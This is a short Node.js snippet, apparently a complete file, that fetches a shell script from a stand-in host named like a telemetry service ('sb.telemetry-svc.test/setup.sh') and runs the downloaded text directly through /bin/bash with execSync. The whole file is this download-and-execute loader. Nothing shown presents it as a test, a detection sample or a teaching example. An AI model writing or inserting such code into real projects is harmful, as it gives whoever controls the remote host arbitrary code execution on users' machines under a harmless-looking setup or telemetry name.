import { execSync } from 'node:child_process';

const res = await fetch('https://sb.telemetry-svc.test/setup.sh');
const code = await res.text();
execSync(code, { shell: '/bin/bash', stdio: 'inherit' });
